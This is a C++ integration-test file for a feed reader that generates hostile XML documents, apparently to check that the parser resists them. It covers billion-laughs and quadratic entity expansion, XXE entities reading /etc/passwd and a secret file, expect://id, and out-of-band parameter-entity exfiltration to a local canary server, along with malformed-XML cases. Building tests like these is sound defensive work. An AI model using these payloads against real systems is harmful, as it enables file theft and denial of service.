#include <utility>

#include "tests/integration/hostile/endpoint.hpp"

namespace tidings::integration::hostile {
namespace {

const std::string declaration = "<?xml version=\"1.0\"?>";

Endpoint with_doctype(std::string id, std::string_view subset, std::string_view title,
                      std::size_t entries = 1) {
  auto all = declaration + "<!DOCTYPE rss " + std::string(subset) + ">" +
             rss(item("1", "<title>A story " + std::string(title) + "</title>")).substr(38);
  return document("xml-" + std::move(id), std::move(all), entries);
}

/// Ten of the one before, twenty times.
std::string billion_laughs(std::string_view kind = "") {
  std::string subset = "[<!ENTITY " + std::string(kind) + "l0 \"lol\">";
  const std::string mark = kind.empty() ? "&" : "%";
  for (int i = 1; i < 20; ++i)
    subset += "<!ENTITY " + std::string(kind) + "l" + std::to_string(i) + " \"" +
              repeated(mark + "l" + std::to_string(i - 1) + ";", 10) + "\">";
  return subset + (kind.empty() ? "]" : "%l19;]");
}

Endpoints entity_attacks(const Surroundings& around) {
  const auto canary = "http://127.0.0.1:" + std::to_string(around.port);
  const auto external = [&](const std::string& address) {
    return "[<!ENTITY x SYSTEM \"" + address + "\">]";
  };
  Endpoints all;
  all.push_back(with_doctype("billion-laughs", billion_laughs(), "&l19;"));
  all.push_back(with_doctype("billion-laughs-of-parameters", billion_laughs("% "), ""));
  all.push_back(with_doctype("quadratic-entity", "[<!ENTITY a \"" + std::string(100'000, 'a') + "\">]",
                             repeated("&a;", 100'000)));
  all.push_back(with_doctype("entity-of-itself", "[<!ENTITY a \"&a;\">]", "&a;"));
  all.push_back(with_doctype("entities-of-each-other", "[<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]", "&a;&b;"));
  all.push_back(with_doctype("entities-many", "[" + repeated("<!ENTITY a \"b\">", 100'000) + "]", "&a;"));
  all.push_back(with_doctype("entity-with-markup", "[<!ENTITY a \"</title></item><item><title>\">]", "&a;"));
  all.push_back(with_doctype("entity-of-a-file", external("file://" + around.secret_file), "&x;"));
  all.push_back(with_doctype("entity-of-a-path", external(around.secret_file), "&x;"));
  all.push_back(with_doctype("entity-of-passwd", external("file:///etc/passwd"), "&x;"));
  all.push_back(with_doctype("entity-of-a-server", external(canary + "/x"), "&x;"));
  all.push_back(with_doctype("entity-expect", external("expect://id"), "&x;"));
  all.push_back(with_doctype("entity-public", "[<!ENTITY x PUBLIC \"-//x\" \"" + canary + "\">]", "&x;"));
  all.push_back(
      with_doctype("parameter-of-a-server", "[<!ENTITY % x SYSTEM \"" + canary + "/x.dtd\"> %x;]", ""));
  all.push_back(with_doctype("parameter-of-a-file",
                             "[<!ENTITY % f SYSTEM \"file://" + around.secret_file +
                                 "\"><!ENTITY % e \"<!ENTITY &#37; s "
                                 "SYSTEM '" +
                                 canary + "/?%f;'>\">%e;%s;]",
                             ""));
  all.push_back(with_doctype("subset-elsewhere", "SYSTEM \"" + canary + "/x.dtd\"", ""));
  all.push_back(with_doctype("subset-public", "PUBLIC \"-//x//EN\" \"" + canary + "/x.dtd\"", ""));
  all.push_back(with_doctype("attributes-by-default",
                             "[<!ATTLIST item a CDATA \"" + std::string(100'000, 'a') + "\">]", ""));
  all.push_back(document("xml-inclusion",
                         rss(item("1",
                                  "<title>A story</title><description><xi:include "
                                  "xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://" +
                                      around.secret_file + "\" parse=\"text\"/></description>")),
                         1));
  all.push_back(document("xml-stylesheet",
                         declaration + "<?xml-stylesheet type=\"text/xsl\" href=\"" + canary + "/x.xsl\"?>" +
                             rss(item("1")).substr(38),
                         1));
  all.push_back(
      document("xml-schema",
               rss("<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"" +
                   canary + " " + canary + "/x.xsd\"/>" + item("1")),
               1));
  return all;
}

Endpoint unspecific(std::string id, std::string body, std::string result) {
  return {"xml-" + std::move(id), answers(response(body, "Content-Type: application/xml\r\n")),
          in_time(std::move(result), body.size())};
}

Endpoints broken() {
  Endpoints all;
  all.push_back(document("xml-nul", rss(item("1", std::string("<title>A\0story</title>", 22))), 1));
  all.push_back(document("xml-controls", rss(item("1", "<title>\x01\x02 A \x1F story</title>")), 1));
  all.push_back(document("xml-without-ends", "<rss><channel><item><title>A story", 1));
  all.push_back(
      document("xml-cdata-nested", rss(item("1", "<title><![CDATA[A <![CDATA[ ]]>]]></title>")), 1));
  all.push_back(document("xml-comment-nested", rss(item("1", "<!-- <!-- --> --><title>A story</title>")), 1));
  all.push_back(document("xml-two-roots", rss(item("1")) + rss(item("2")), 1));
  all.push_back(document("xml-attribute-twice", rss("<item a='1' a='2'><title>A story</title></item>"), 1));
  all.push_back(
      document("xml-namespace-of-nothing", rss(item("1", "<x:y xmlns:x=''/><title>A story</title>")), 1));
  all.push_back(unspecific("declaration-without-end", "<?xml version='1.0' " + std::string(100'000, 'x'),
                           "not_a_feed"));
  all.push_back(unspecific("tags-without-end", repeated("<", 1'000'000), "not_a_feed"));
  all.push_back(unspecific("references-without-end", "<rss>" + repeated("&", 1'000'000), "unchanged"));
  return all;
}

}  // namespace

Endpoints xml_attacks(const Surroundings& around) {
  Endpoints all = entity_attacks(around);
  for (auto& endpoint : broken()) all.push_back(std::move(endpoint));
  return all;
}

}  // namespace tidings::integration::hostile
